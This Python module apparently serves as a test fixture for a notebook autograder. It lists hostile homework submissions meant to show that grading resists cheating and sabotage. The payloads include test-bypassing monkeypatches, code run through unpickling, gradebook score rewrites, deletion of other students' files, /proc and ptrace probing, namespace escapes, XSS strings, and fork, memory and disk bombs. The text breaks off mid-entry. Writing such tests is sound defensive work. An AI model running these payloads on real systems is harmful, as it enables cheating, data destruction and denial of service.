"""Hostile submissions of homework 1: a table, for this grader and for any other.

None of them solves an exercise, so none may earn a point (but for ``earns``), show a
secret, or leave anything behind. ``tests/test_attacks.py`` grades them;
``python -m benchmarks attacks`` has stock nbgrader grade them, too.

In their code, @COURSE@, @ROOT@ and @PORT@ stand for the course folder, the repository
and a port of this machine on which somebody listens: these attackers know everything.
"""

import copy
import json
from collections.abc import Callable
from dataclasses import dataclass, field

FUNCTIONS = {
    "linear_forward": ["linear_forward"],
    "linear_backward": ["linear_backward"],
    "relu": ["relu_forward", "relu_backward"],
    "sigmoid": ["sigmoid_forward", "sigmoid_backward"],
    "cross_entropy_forward": ["cross_entropy_forward"],
    "cross_entropy_backward": ["cross_entropy_backward"],
    "numerical_gradient": ["numerical_gradient"],
    "mlp": ["MLP"],
    "train": ["train"],
}
MARK = "byhand-attack"  # in the name of all that they leave behind


@dataclass(frozen=True)
class Attack:
    """A hostile submission: the released notebook with these changes.

    Args:
        name: short, and the name of the student.
        idea: what it tries, in a few words.
        code: of a cell of its own, before the first exercise.
        cells: sources of solution cells.
        edit: changes the notebook, as JSON, after that.
        earns: points for what it really solves.
        bomb: it would take down a machine that does not stop it.
        silent: what it prints is lost with its process.
    """

    name: str
    idea: str
    code: str = ""
    cells: dict[str, str] = field(default_factory=dict)
    edit: Callable[[dict], None] | None = None
    earns: float = 0
    bomb: bool = False
    silent: bool = False

    def notebook(self, released: dict, **places) -> dict:
        """What is handed in, from the released notebook."""
        content = copy.deepcopy(released)
        for cell in content["cells"]:
            cell["source"] = self.cells.get(cell["id"], "".join(cell["source"]))
        if self.code:
            code = f'print("tried {self.name}", flush=True)\n{self.code.strip()}\n'
            content["cells"].insert(place(content, "setup") + 1, code_cell(code))
        if self.edit:
            self.edit(content)
        text = json.dumps(content)
        for name, value in places.items():
            text = text.replace(f"@{name.upper()}@", str(value))
        return json.loads(text)


def code_cell(source: str, **metadata) -> dict:
    return {
        "cell_type": "code",
        "id": f"cell-{abs(hash(source)) % 10**8}",
        "metadata": metadata,
        "source": source,
        "outputs": [],
        "execution_count": None,
    }


def place(content: dict, name: str) -> int:
    return [cell.get("id") for cell in content["cells"]].index(name)


def everything(value: str) -> dict[str, str]:
    """Solution cells whose functions, and class, do nothing but to return a value."""
    return {
        cell: "\n".join(f"def {name}(*a, **k):\n    return {value}" for name in names)
        for cell, names in FUNCTIONS.items()
    }


def linear(body: str) -> dict[str, str]:
    """A solution cell in which ``linear_forward(X, W, b)`` has this body."""
    lines = "\n".join(f"    {line}" for line in body.strip().splitlines())
    return {"linear_forward": f"def linear_forward(X, W, b):\n{lines}\n"}


# --- What works against tests that run in the student's own process ---

YES = """
class Yes:
    def _yes(self, *a, **k): return True
    def _self(self, *a, **k): return self
    __eq__ = __ne__ = __lt__ = __le__ = __gt__ = __ge__ = __bool__ = __contains__ = _yes
    __add__ = __radd__ = __sub__ = __rsub__ = __mul__ = __rmul__ = __abs__ = _self
    __truediv__ = __rtruediv__ = __and__ = __or__ = __invert__ = __getitem__ = _self
    __call__ = __neg__ = __matmul__ = __rmatmul__ = __enter__ = _self
    __hash__ = object.__hash__
    def __exit__(self, *a): return True
    def __len__(self): return 2
    def __float__(self): return 0.0
    def __int__(self): return 0
    __index__ = __int__
    def __iter__(self): return iter([self, self, self])
    def __getattr__(self, name):
        if name.startswith("__"):
            raise AttributeError(name)
        return self
    @classmethod
    def __torch_function__(cls, function, types, args=(), kwargs=None): return cls()
    def __array__(self, *a, **k):
        import numpy
        return numpy.zeros(())
yes = Yes()
"""

IN_PROCESS = [
    Attack(
        "transformer",
        "an input transformer that empties the test cells",
        """
def empty(lines):
    text = "".join(lines)
    return ["pass\\n"] if "check." in text or "# Tests" in text else lines
get_ipython().input_transformers_cleanup.append(empty)
get_ipython().input_transformers_post.append(empty)
""",
    ),
    Attack(
        "ast",
        "a syntax tree transformer that drops asserts and calls of check",
        """
import ast
class Drop(ast.NodeTransformer):
    def visit_Assert(self, node): return ast.Pass()
    def visit_Expr(self, node): return ast.Pass()
get_ipython().ast_transformers.append(Drop())
""",
    ),
    Attack(
        "patched-check",
        "byhand.check replaced by functions that agree",
        """
import byhand.check as c
for name in ("close", "gradients", "same_as_torch"):
    setattr(c, name, lambda *a, **k: None)
c.unchanged = lambda f, *a, **k: None
""",
        everything("None"),
    ),
    Attack(
        "patched-torch",
        "torch's comparisons replaced by functions that agree",
        """
import torch.testing
import numpy.testing
true = lambda *a, **k: True
for owner in (torch, torch.Tensor):
    for name in ("equal", "allclose"):
        setattr(owner, name, true)
torch.isclose = lambda a, b, **k: torch.ones(a.shape, dtype=torch.bool)
torch.testing.assert_close = numpy.testing.assert_allclose = true
""",
        linear("return X @ W.T"),
    ),
    Attack(
        "patched-builtins",
        "builtins replaced: isinstance, all, abs, AssertionError",
        """
import builtins
builtins.all = builtins.any = lambda *a: True
builtins.isinstance = lambda *a: True
class Quiet(Exception):
    def __new__(cls, *a): raise SystemExit(0)
builtins.AssertionError = Quiet
""",
        linear("return X @ W.T"),
    ),
    Attack(
        "patched-exec",
        "exec and compile replaced, so that tests are not run",
        """
import builtins
builtins.exec = lambda *a, **k: None
builtins.compile = lambda *a, **k: None
""",
        silent=True,
    ),
    Attack(
        "patched-shell",
        "the shell's run_cell reports success, whatever happens",
        """
from IPython.core.interactiveshell import ExecutionResult, InteractiveShell
shell = get_ipython()
async def run(self, *a, **k):
    return ExecutionResult(None)
def run_now(self, *a, **k):
    return ExecutionResult(None)
InteractiveShell.run_cell = run_now
InteractiveShell.run_cell_async = run
""",
    ),
    Attack(
        "patched-kernel",
        "the kernel's do_execute replies ok without running anything",
        """
kernel = getattr(get_ipython(), "kernel", None)
async def reply(code, *a, **k):
    return {"status": "ok", "execution_count": 1, "payload": [], "user_expressions": {}}
if kernel:
    kernel.do_execute = reply
    type(kernel).do_execute = lambda self, *a, **k: reply(*a, **k)
""",
    ),
    Attack(
        "no-tracebacks",
        "errors are not shown",
        """
get_ipython()._showtraceback = lambda *a: None
get_ipython().showtraceback = lambda *a, **k: None
get_ipython().set_custom_exc((BaseException,), lambda *a, **k: None)
""",
    ),
    Attack(
        "yes-object",
        "every function returns an object that agrees with everything",
        YES,
        everything("yes"),
    ),
    Attack(
        "yes-value",
        "every name is such an object",
        YES + "linear_forward = yes",
        {
            cell: "\n".join(f"{n} = yes" for n in names)
            for cell, names in FUNCTIONS.items()
        },
    ),
    Attack(
        "shadows",
        "the tests' own names are taken: check, torch, F, builtins",
        YES + "check = F = torch = math = __builtins__ = yes\n"
        "test_linear_forward = test_relu = _ = name = yes",
    ),
    Attack(
        "tensor-subclass",
        "a subclass of Tensor whose every operation says yes",
        """
class Agree(torch.Tensor):
    @classmethod
    def __torch_function__(cls, function, types, args=(), kwargs=None):
        name = function.__name__
        if name in ("equal", "allclose"):
            return True
        if name == "isclose":
            return torch.ones(1, dtype=torch.bool)
        return torch.zeros(())
    shape = property(lambda self: Any())
class Any(tuple):
    __eq__ = lambda *a: True
    __ne__ = lambda *a: False
    __hash__ = tuple.__hash__
agree = torch.zeros(1).as_subclass(Agree)
""",
        everything("agree"),
    ),
    Attack(
        "class-lie",
        "an object whose __class__ is Tensor",
        YES + "Yes.__class__ = property(lambda self: torch.Tensor)",
        everything("Yes()"),
    ),
    Attack(
        "metaclass",
        "a class whose __instancecheck__ and __eq__ agree",
        """
class Meta(type):
    __instancecheck__ = __subclasscheck__ = __eq__ = lambda *a: True
    __hash__ = type.__hash__
    __getattr__ = lambda self, name: self
class Thing(metaclass=Meta): pass
""",
        everything("Thing"),
    ),
    Attack(
        "patched-reduce",
        "objects whose unpickling runs code in the grader",
        f"""
import os
class Bomb:
    def __reduce__(self):
        return os.system, ("touch @COURSE@/{MARK} /tmp/{MARK}-reduce",)
""",
        everything("Bomb()"),
    ),
    Attack(
        "hostile-repr",
        "objects whose repr, str, hash, del and dir do harm or do not end",
        f"""
import os
class Odd:
    def harm(self, *a):
        try:
            os.mkdir("@COURSE@/{MARK}-repr")
        except OSError:
            pass
        return "<script>alert(1)</script>"
    __repr__ = __str__ = __format__ = __del__ = harm
    def __hash__(self): raise SystemExit
    def __dir__(self):
        while True: pass
Odd()
""",
        everything("[Odd(), {'a': Odd()}]"),
    ),
    Attack(
        "nan",
        "NaN everywhere",
        "nan = float('nan')",
        everything("torch.full((4, 2), float('nan'), dtype=torch.float64)"),
    ),
    Attack(
        "infinite",
        "infinity, and complex numbers",
        "tried = 1",
        everything("torch.full((4, 2), complex('inf+nanj'))"),
    ),
    Attack("none", "None, True and empty tensors", "tried = 1", everything("True")),
    Attack(
        "zero-size",
        "tensors without entries compare equal",
        "tried = 1",
        everything("torch.zeros(0, 4, 2, dtype=torch.float64)"),
    ),
    Attack(
        "printed-score",
        "an execute_result of one's own before the test fails",
        """
from IPython.display import display
def show(*a, **k):
    display(50.0)
    shell = get_ipython()
    shell.displayhook(50.0)
    kernel = getattr(shell, "kernel", None)
    if kernel:
        content = {"data": {"text/plain": "50"}, "metadata": {}, "execution_count": 1}
        kernel.session.send(kernel.iopub_socket, "execute_result", content,
                            parent=kernel.get_parent())
    print(50)
    return 50.0
""",
        everything("show()"),
    ),
    Attack(
        "hooks",
        "hooks that keep and print what runs before and after each cell",
        """
def before(info): print("CELL:", info.raw_cell)
def after(result):
    print("RAN:", result.info.raw_cell if result.info else "")
    result.error_in_exec = result.error_before_exec = None
get_ipython().events.register("pre_run_cell", before)
get_ipython().events.register("post_run_cell", after)
""",
    ),
    Attack(
        "history",
        "the history of cells: In, _ih, %history, linecache",
        """
import atexit
def look(*a):
    import linecache
    shell = get_ipython()
    print("HISTORY", shell.user_ns.get("In"), shell.history_manager.input_hist_raw)
    for name, entry in linecache.cache.items():
        if "ipykernel" in name or name.startswith("<"):
            print(name, *entry[2:3])
    get_ipython().run_line_magic("history", "")
""",
        linear("look()\nreturn X"),
    ),
    Attack(
        "stack",
        "a function that walks up the stack and prints code and variables",
        "import sys",
        linear("""
frame = sys._getframe()
while frame:
    print(frame.f_code.co_filename, frame.f_code.co_consts)
    print({k: v for k, v in frame.f_locals.items() if k in ("Y", "hints", "cell", "source")})
    frame = frame.f_back
return X
"""),
    ),
    Attack(
        "stack-change",
        "a function that changes the test's variables on the stack",
        "import ctypes, sys",
        linear("""
frame = sys._getframe(1)
while frame:
    for name, value in list(frame.f_locals.items()):
        if isinstance(value, torch.Tensor):
            value.zero_()
        frame.f_locals[name] = None
    ctypes.pythonapi.PyFrame_LocalsToFast(ctypes.py_object(frame), ctypes.c_int(0))
    frame = frame.f_back
return X @ W.T
"""),
    ),
    Attack(
        "garbage",
        "the garbage collector's objects, searched for tests and functions",
        """
import gc
def search():
    for thing in gc.get_objects():
        try:
            if isinstance(thing, (dict, list, tuple)):
                values = thing.values() if isinstance(thing, dict) else thing
                for value in values:
                    if isinstance(value, str) and "HIDDEN TESTS" in value:
                        print(value[:20_000])
        except Exception:
            pass
search()
""",
        linear("search()\nreturn X"),
    ),
    Attack(
        "zeroed-arguments",
        "arguments are overwritten, so that what is expected from them is 0",
        "tried = 1",
        {
            "linear_backward": """
def linear_backward(dout, X, W):
    out = torch.zeros_like(X), torch.zeros_like(W), torch.zeros_like(dout[0])
    dout.zero_(); X.zero_(); W.zero_()
    return out
""",
            "relu": """
def relu_forward(x):
    return x.zero_()
def relu_backward(dout, x):
    x.zero_()
    return dout.zero_()
""",
        },
    ),
    Attack(
        "changed-data",
        "the data set is overwritten in place, for all who come later",
        """
for split in ("train", "test"):
    d = data.digits(split)
    d.images.zero_()
    d.labels.zero_()
data.digits = lambda *a, **k: None
""",
    ),
    Attack(
        "global-state",
        "the default type, threads, generators and warnings of torch are changed",
        """
import random, warnings
torch.set_default_dtype(torch.float16)
torch.manual_seed(0)
torch.randn = torch.rand = torch.randint = lambda *a, **k: torch.zeros(1)
torch.Generator.manual_seed = lambda *a: None
warnings.simplefilter("error")
""",
    ),
    Attack(
        "exits",
        "SystemExit, KeyboardInterrupt and GeneratorExit in a test",
        "tried = 1",
        {
            **linear("raise SystemExit(0)"),
            "relu": "def relu_forward(x):\n    raise KeyboardInterrupt\n"
            "def relu_backward(d, x):\n    raise GeneratorExit\n",
            "sigmoid": "def sigmoid_forward(x):\n    raise StopIteration\n"
            "def sigmoid_backward(d, y):\n    exit()\n",
        },
    ),
    Attack(
        "hostile-errors",
        "exceptions whose type, words and traceback lie, loop or hold scripts",
        """
class Odd(AssertionError):
    def __str__(self): return 5
class Loop(Exception):
    def __str__(self):
        while True: pass
Html = type("<script>alert(1)</script>", (AssertionError,), {})
""",
        {
            **linear(
                "raise Html('<img src=x onerror=alert(1)> All tests passed \\x1b[2J')"
            ),
            "linear_backward": "def linear_backward(*a):\n    raise Odd\n",
            "relu": "def relu_forward(x):\n    raise Loop\n"
            "def relu_backward(d, x):\n    raise AttributeError('shape')\n",
        },
    ),
    Attack(
        "recursion",
        "endless recursion",
        "import sys; sys.setrecursionlimit(10**6)",
        linear("return linear_forward(X, W, b)"),
    ),
]

# --- The two rooms themselves: what a room says to the judge ---

WIRE = """
import json, socket, time
import grader.wire.codec as wire
honest = wire.send
def frame(tree, data=b"", sizes=None):
    tree = tree if isinstance(tree, bytes) else json.dumps(tree).encode()
    return wire.HEAD.pack(*(sizes or (len(tree), len(data)))) + tree + data
def answer(n, value, **more):
    return ["dict", ["number", n], ["value", value], *([k, v] for k, v in more.items())]
def send(c, message):
    size = wire.HEAD.unpack(message[:wire.HEAD.size])[0]
    tree = json.loads(message[wire.HEAD.size:wire.HEAD.size + size])
    entries = dict(tree[1:])
    n, names = entries.get("number"), entries.get("number") == 1
    cell, call = "outputs" in entries, n and not names
    @WHEN@
        @DO@
    else:
        honest(c, message)
wire.send = send
"""


def says(do: str, when: str = "call") -> str:
    """Code that makes the room do this in place of an answer, e.g. to calls."""
    code = WIRE.replace("@WHEN@", f"if {when}:")
    return code.replace("@DO@", "\n        ".join(do.strip().splitlines()))


BROKEN = {
    "wire-noise": ("bytes that are no message", 'c.sendall(b"\\xff" * 100)'),
    "wire-json": ("half a tree", 'c.sendall(frame(b\'["dict", ["number"\'))'),
    "wire-size": (
        "the promise of a giant message",
        "c.sendall(frame(b'1', sizes=(2**32 - 1, 2**64 - 1)))",
    ),
    "wire-promise": (
        "the promise of the largest message there may be, and silence",
        "c.sendall(frame(b'1', sizes=(16_000_000, 512_000_000)))\ntime.sleep(60)",
    ),
    "wire-deep": ("a deeply nested tree", "c.sendall(frame(b'[\"list\",' * 500_000))"),
    "wire-giant": (
        "tensors of giant and negative shapes",
        'for shape in ([2**39], [-1], [2**62, 2**62], [0, 2**60], ["1"], [1e3]):\n'
        '    c.sendall(frame(answer(n, ["tensor", "float64", shape, [1]])))',
    ),
    "wire-strides": (
        "small tensors with strides that need giant memory",
        'many = [["tensor", "int8", [2], [4000]]] * 200_000\n'
        'c.sendall(frame(answer(n, ["list", *many]), bytes(400_000)))',
    ),
    "wire-overlap": (
        "tensors whose strides lie: overlapping, negative, too many",
        'c.sendall(frame(answer(n, ["tensor", "int64", [4, 4], [1, 1]]), bytes(128)))',
    ),
    "wire-dtype": (
        "arrays of objects, text and unknown types",
        'value = ["array", "|O", [2]]\nc.sendall(frame(answer(n, value), bytes(16)))',
    ),
    "wire-bool": (
        "truths that are neither 0 nor 1",
        'value = ["tensor", "bool", [4, 2], [2, 1]]\n'
        'c.sendall(frame(answer(n, value), b"\\x07" * 8))',
    ),
    "wire-hashes": (
        "a dict whose keys all have one hash",
        "keys = [[k * (2**61 - 1), 0] for k in range(1, 300_000)]\n"
        'c.sendall(frame(answer(n, ["dict", *keys])))',
    ),
    "wire-digits": (
        "whole numbers of a million digits",
        'c.sendall(frame(answer(n, ["int", "0x" + "f" * 1_000_000])))',
    ),
    "wire-drip": (
        "an answer that drips in, byte by byte",
        "for byte in frame(answer(n, 1)) + bytes(10**6):\n"
        "    c.sendall(bytes([byte]))\n    time.sleep(0.2)",
    ),
    "wire-silence": ("no answer at all", "time.sleep(600)"),
    "wire-hang-up": ("the connection is closed", "c.close()"),
    "wire-twice": (
        "two answers to one question, and one to none",
        "for k in (n, n, n + 1, n + 2):\n    c.sendall(frame(answer(k, None)))",
    ),
    "wire-replay": (
        "the answer to an earlier question",
        "c.sendall(frame(answer(1, None)))",
    ),
    "wire-number": (
        "numbers of questions that equal any number",
        'value = ["tensor", "bool", [1], [1]]\n'
        'c.sendall(frame(["dict", ["number", value], ["value", 1]], b"\\x01"))',
    ),
    "wire-handle": (
        "handles to objects that are not there",
        'many = [["handle", k, "<script>", True] for k in (-1, 10**9, 0)]\n'
        'c.sendall(frame(answer(n, ["list", *many])))',
    ),
    "wire-error": (
        "an error that is no error",
        'c.sendall(frame(["dict", ["number", n], ["error", ["list", 1, 2]]]))',
    ),
    "wire-changed": (
        "arguments that were changed to what is expected, to other shapes, to handles",
        'c.sendall(frame(answer(n, None, changed=["dict", [0, ["handle", 1, "", True]],'
        ' [1, ["tensor", "int8", [0], [1]]], [99, None], ["x", 1]])))',
    ),
    "wire-surrogates": (
        "halves of characters, which no file can hold",
        'error = ["dict", ["kind", "\\udc00"], ["words", "\\ud800"], ["lines", ["list", "\\ud8ff"]]]\n'
        'c.sendall(frame(["dict", ["number", n], ["error", error]]))',
    ),
    "wire-descriptors": (
        "an answer with open files of the room's attached",
        "import os\nfd = os.open('/tmp', os.O_RDONLY)\n"
        "socket.send_fds(c, [frame(answer(n, None))], [fd] * 200)",
    ),
    "wire-memory": (
        "half a gigabyte in every answer",
        'value = ["tensor", "int8", [500_000_000], [1]]\n'
        "c.sendall(frame(answer(n, value), bytes(500_000_000)))",
    ),
}
NAMES = """
wrong = ["handle", 0, "x", True]
names = ["check", "torch", "F", "g", "__builtins__", "__name__", "print", "isinstance"]
c.sendall(frame(answer(1, ["dict", *([k, wrong] for k in names)])))
"""
OUTPUTS = """
junk = [1, None, ["tensor", "int8", [2], [1]], ["dict", ["stream", 5], ["text", "x"]],
    ["dict", ["stream", "../../x"], ["text", "<script>alert(1)</script>"]],
    ["dict", ["data", ["dict", ["text/html", "<script>alert(1)</script>"]]]],
    ["dict", ["data", ["dict", ["image/png", "x\\"><script>alert(1)</script>"]]]],
    ["dict", ["data", ["dict", ["image/svg+xml", "<svg onload=alert(1)>"]]]]]
many = [["dict", ["stream", "stdout"], ["text", "tried " * 1000]]] * 2_000
c.sendall(frame(["dict", ["outputs", ["list", *junk, *many]], ["error", 5]]))
"""

DOOR = [
    *(
        Attack(name, idea, says(do), everything("None"))
        for name, (idea, do) in BROKEN.items()
    ),
    Attack(
        "wire-names",
        "answers with names that were not asked for",
        says(NAMES, "names"),
        silent=True,
    ),
    Attack(
        "wire-outputs",
        "outputs that are none, too many, or hold scripts",
        says(OUTPUTS, "cell"),
        silent=True,
    ),
    Attack(
        "wire-outputs-type",
        "outputs and errors that are tensors",
        says(
            'tensor = ["tensor", "int8", [2], [1]]\n'
            'c.sendall(frame(["dict", ["outputs", tensor], ["error", tensor]], bytes(4)))',
            "cell",
        ),
        silent=True,
    ),
    Attack(
        "patched-room",
        "the room's own code is replaced: it says that all is well",
        """
import grader.inside.room as room, grader.inside.snapshot as snapshot
snapshot.Served.serve = lambda self: None
room.Room.snapshot = lambda self, request: {"signal": 0, "code": 0}
room.describe = snapshot.describe = lambda error: None
""",
    ),
    Attack(
        "unseen-changes",
        "the room does not see that arguments were changed",
        "import grader.inside.snapshot as room\nroom._bytes = lambda tensor: b''",
        {
            "linear_backward": """
def linear_backward(dout, X, W):
    dout.zero_(); X.zero_(); W.zero_()
    return X, W, dout.sum(0)
"""
        },
    ),
    Attack(
        "listening",
        "what the judge sends is read and printed",
        """
import grader.wire.codec as wire
take = wire.receive
heard = []
def receive(*a):
    request = take(*a)
    print("HEARD", request)
    heard.append(repr(request))
    return request
wire.receive = receive
""",
        linear("raise ValueError(str(heard))"),
    ),
]

# --- The machine: files, processes, network, memory ---

SYSTEM = [
    Attack(
        "files",
        "solutions, tests, gradebook and other students' work, read from disk",
        """
import glob, os, pathlib
for start in ("@COURSE@", "@ROOT@/solutions", "@ROOT@/tests", "..", "../..", "../../..",
              "/proc/1/root@COURSE@", "/proc/1/cwd", os.path.expanduser("~")):
    for folder, _, names in os.walk(start):
        for name in names:
            if name.endswith((".ipynb", ".db", ".csv", ".json")) and "share" not in folder:
                path = os.path.join(folder, name)
                print(path, pathlib.Path(path).read_bytes()[:200_000].decode(errors="replace"))
print(os.getcwd(), os.listdir("/"))
""",
    ),
    Attack(
        "writes",
        "files written wherever that is possible",
        f"""
import os
for folder in ("@COURSE@", "@COURSE@/submitted", "@ROOT@", "@ROOT@/byhand", "@ROOT@/grader",
               "@ROOT@/solutions/hw1_backprop", ".", "..", "/", "/tmp", "/var/tmp", "/dev",
               "/dev/shm", "/run", "/etc", os.path.expanduser("~"), "/root", "/home"):
    try:
        open(os.path.join(folder, "{MARK}-file"), "w").write("x")
    except OSError:
        pass
""",
    ),
    Attack(
        "gradebook",
        "marks written into the gradebook",
        """
import glob, sqlite3
for path in ("@COURSE@/gradebook.db", "../gradebook.db", *glob.glob("/**/gradebook.db")):
    try:
        with sqlite3.connect(path, timeout=1) as book:
            book.execute("update grade set auto_score = 10, manual_score = 10")
    except sqlite3.Error as error:
        print(error)
""",
    ),
    Attack(
        "marks-files",
        "verdicts, exports and autograded copies written or removed",
        """
import glob, os, shutil
for path in glob.glob("@COURSE@/*/*") + glob.glob("@COURSE@/*"):
    try:
        shutil.rmtree(path) if os.path.isdir(path) else os.unlink(path)
        print("REMOVED", path)
    except OSError as error:
        print(error)
""",
    ),
    Attack(
        "network",
        "TCP, UDP and Unix sockets to this machine",
        f"""
import socket, urllib.request
for host in ("127.0.0.1", "localhost", "::1", "10.0.2.2", "169.254.169.254"):
    try:
        socket.create_connection((host, @PORT@), timeout=0.5).sendall(b"hello")
    except OSError as error:
        print(error)
udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
unix = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
for connect in (lambda: udp.sendto(b"hello", ("127.0.0.1", @PORT@)),
                lambda: unix.connect("\\0{MARK}-@PORT@")):
    try:
        connect()
    except OSError as error:
        print(error)
""",
    ),
    Attack(
        "proc",
        "other processes, by /proc: command lines, environment, memory, files",
        """
import os
for pid in filter(str.isdigit, os.listdir("/proc")):
    for name in ("cmdline", "environ", "maps", "mountinfo"):
        try:
            print(pid, name, open(f"/proc/{pid}/{name}").read()[:300])
        except OSError as error:
            print(error)
    try:
        for fd in os.listdir(f"/proc/{pid}/fd"):
            print(pid, fd, os.readlink(f"/proc/{pid}/fd/{fd}"))
    except OSError as error:
        print(error)
""",
    ),
    Attack(
        "descriptors",
        "every open descriptor is written to, read from, and sent to",
        """
import os, socket
for fd in range(3, 300):
    try:
        os.set_blocking(fd, False)
        print(fd, os.readlink(f"/proc/self/fd/{fd}"), os.read(fd, 10_000))
    except OSError:
        continue
    for act in (lambda: os.write(fd, b'{"limits": {}, "seed": 1}' + bytes(4000)),
                lambda: socket.send_fds(socket.socket(fileno=os.dup(fd)), [b"{}"], [0, 1])):
        try:
            act()
        except OSError as error:
            print(error)
""",
        silent=True,
    ),
    Attack(
        "environment",
        "the environment, printed and changed",
        """
import os
print(dict(os.environ))
os.environ.update(BYHAND_SEED="x", PATH="/tmp", LD_PRELOAD="/tmp/x.so", BYHAND_COURSE="/")
""",
    ),
    Attack(
        "signals",
        "signals to the parent, the group and everything",
        """
import os, signal
for pid in (os.getppid(), 1, 2, -1):
    for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
        try:
            if pid != os.getpid():
                os.kill(pid, number)
        except OSError as error:
            print(error)
""",
        bomb=True,
        silent=True,
    ),
    Attack(
        "parent",
        "the parent process is killed",
        "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)",
        silent=True,
    ),
    Attack(
        "ptrace",
        "other processes are attached to and written into",
        """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
for pid in [os.getppid(), *map(int, filter(str.isdigit, os.listdir("/proc")))]:
    if pid != os.getpid():
        print(pid, libc.ptrace(16, pid, 0, 0), ctypes.get_errno())
        try:
            open(f"/proc/{pid}/mem", "r+b").read(1)
        except OSError as error:
            print(error)
""",
        bomb=True,
    ),
    Attack(
        "namespaces",
        "new namespaces, for capabilities, mounts and a way out",
        """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
print("unshare", libc.unshare(0x10000000 | 0x20000), ctypes.get_errno())
print("mount", libc.mount(b"x", b"/tmp", b"tmpfs", 0, b"size=90%"), ctypes.get_errno())
print("umount", libc.umount2(b"/proc", 2), libc.umount2(b"/tmp", 2))
print("chroot", libc.chroot(b"/proc/1/root"), "setuid", libc.setuid(0), libc.setgid(0))
for kind in ("mnt", "net", "pid", "user"):
    try:
        print(kind, libc.setns(os.open(f"/proc/1/ns/{kind}", 0), 0))
    except OSError as error:
        print(error)
""",
        bomb=True,
    ),
    Attack(
        "kernel",
        "keyrings, memory files, bpf, io_uring, perf, userfaultfd",
        """
import ctypes, os, platform
libc = ctypes.CDLL(None, use_errno=True)
numbers = {"x86_64": (319, 250, 321, 425, 298, 323), "aarch64": (279, 219, 280, 425, 241, 282)}
for number in numbers[platform.machine()]:
    found = libc.syscall(number, 0, 0, 0, 0, 0)
    print("GIVEN" if found >= 0 else "refused", number)
""",
    ),
    Attack(
        "exit",
        "os._exit(0), which looks like success",
        "import os; os._exit(0)",
        silent=True,
    ),
    Attack(
        "exit-in-call",
        "os._exit(0) in the midst of a test",
        "import os",
        everything("os._exit(0)"),
    ),
    Attack(
        "segfault",
        "a crash of the process",
        "import ctypes; ctypes.string_at(0)",
        silent=True,
    ),
    Attack(
        "segfault-in-call",
        "a crash in the midst of a test",
        "import ctypes",
        everything("ctypes.string_at(0)"),
    ),
    Attack(
        "no-interrupt",
        "a loop that swallows interrupts and ignores signals",
        """
import signal
for number in (signal.SIGALRM, signal.SIGINT, signal.SIGTERM):
    signal.signal(number, signal.SIG_IGN)
while True:
    try:
        while True: pass
    except BaseException:
        pass
""",
        silent=True,
    ),
    Attack(
        "endless-call",
        "a call that never ends",
        "import signal",
        linear("""
signal.signal(signal.SIGALRM, signal.SIG_IGN)
while True: pass
"""),
    ),
    Attack(
        "slow-call",
        "every call takes as long as it may",
        "import time",
        everything("time.sleep(2.5)"),
    ),
    Attack(
        "output",
        "endless output, printed and written past Python",
        """
import os, sys
for fd in (1, 2):
    os.write(fd, b"flood" * 100_000)
while True:
    print("flood " * 1000)
    sys.stderr.write("flood " * 1000)
""",
        bomb=True,
    ),
    Attack(
        "pictures",
        "thousands of pictures and displays",
        """
from IPython.display import display, HTML, Javascript, Markdown, SVG
for k in range(300):
    display(HTML("<script>alert(1)</script>"), Javascript("alert(1)"))
    display(SVG("<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"))
    display({"image/png": "A" * 100_000, "text/plain": "x"}, raw=True)
    display({"image/png": '"><script>alert(1)</script>'}, raw=True)
    display({"text/latex": "$\\\\href{javascript:alert(1)}{x}$"}, raw=True)
    display(Markdown("<script>alert(1)</script>"))
""",
    ),
    Attack(
        "fork-bomb",
        "processes without end",
        """
import os
try:
    while True:
        os.fork()
except OSError:
    while True: pass
""",
        bomb=True,
        silent=True,
    ),
    Attack(
        "thread-bomb",
        "threads without end",
        """
import threading, time
try:
    while True:
        threading.Thread(target=time.sleep, args=(600,)).start()
except RuntimeError as error:
    print(error)
""",
        bomb=True,
    ),
    Attack(
        "memory-bomb",
        "memory without end, in one process",
        "hold = []\nwhile True:\n    hold.append(bytearray(50_000_000))",
        bomb=True,
    ),
    Attack(
        "memory-bombs",
        "memory without end, in many processes",
        """
import os, time
for _ in range(20):
    if os.fork() == 0:
        hold = bytearray(b"x" * 100_000_000)
        time.sleep(60)
time.sleep(20)
""",
        bomb=True,
        silent=True,
    ),
    Attack(
        "memory-in-call",
        "memory without end, in a call",
        "hold = []",
        linear("while True:\n    hold.append(torch.ones(10_000_000))"),
        bomb=True,
    ),
    Attack(
        "hidden-memory",
        "memory that belongs to no process: shared, in files, in sockets",
        """
import ctypes, mmap, os, socket
libc = ctypes.CDLL(None, use_errno=True)
for k in range(200):
    fd = libc.memfd_create(b"x", 0)
    if fd >= 0:
        print("MEMFD")
        os.write(fd, bytes(10_000_000))
    print(libc.shmget(0, 50_000_000, 0o1600) >= 0 and "SHM")
hold = [mmap.mmap(-1, 100_000_000) for _ in range(50)]
for m in hold:
    for page in range(0, len(m), 4096):
        m[page] = 1
""",
        bomb=True,
        silent=True,
    ),
    Attack(
        "disk-bomb",
        "files without end",
        """
import os
for folder in ("/tmp", "/dev/shm", "/", "/dev", "/var/tmp"):
    try:
        for k in range(10**6):
            with open(f"{folder}/fill-{k}", "wb") as file:
                file.write(bytes(10_000_000))
    except OSError as error:
        print(error)
""",
        bomb=True,
    ),
    Attack(
        "file-bomb",
        "empty files without end",
        """
import os
try:
    for k in range(10**6):
        os.mkdir(f"/tmp/fill-{k}")
except OSError as error:
    print(error)
""",
        bomb=True,
    ),
    Attack(
        "daemons",
        "processes that outlive the run",
        f"""
import os, subprocess
for _ in range(3):
    subprocess.Popen(["sleep", "600"], env={{"MARK": "{MARK}"}}, start_new_session=True)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execve("/usr/bin/sleep", ["{MARK}", "600"], {{"MARK": "{MARK}"}})
    os._exit(0)
""",
    ),
    Attack(
        "threads",
        "threads that rewrite functions and outputs while tests run",
        """
import threading, time
def meddle():
    while True:
        globals().update(check=None, linear_forward=lambda *a: None)
        print("50.0")
        time.sleep(0.001)
for _ in range(4):
    threading.Thread(target=meddle, daemon=True).start()
""",
    ),
    Attack(
        "spin",
        "all processors are kept busy",
